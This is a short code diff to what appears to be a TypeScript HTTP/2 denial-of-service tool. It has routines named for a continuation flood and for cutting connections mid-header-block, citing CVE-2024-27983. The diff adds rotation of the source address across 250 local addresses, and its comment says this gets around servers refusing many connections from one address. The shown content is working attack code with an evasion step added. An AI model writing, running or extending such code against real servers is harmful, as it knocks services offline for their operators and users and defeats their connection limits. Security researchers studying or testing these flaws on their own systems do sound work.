@@ -21,6 +21,7 @@ export function continuationFlood(job: Job): Promise<Outcome> {
 }
 
 const open = 20;
+const addresses = 250;
 
 /** Connections that are cut in the middle of a header block (CVE-2024-27983), `count` of them unless time is over. */
 export async function cutBlocks(job: Job): Promise<Outcome> {
@@ -31,7 +32,9 @@ export async function cutBlocks(job: Job): Promise<Outcome> {
   const work = async () => {
     while (made < job.count! && performance.now() < begun + job.seconds * 1000) {
       made++;
-      const session = await RawSession.open(job);
+      // From one address alone all but a few would be refused before their handshake.
+      const localAddress = job.localAddress.replace(/\d+$/, String(1 + (made % addresses)));
+      const session = await RawSession.open({ ...job, localAddress });
       if (!session) {
         unopened++;
         continue;
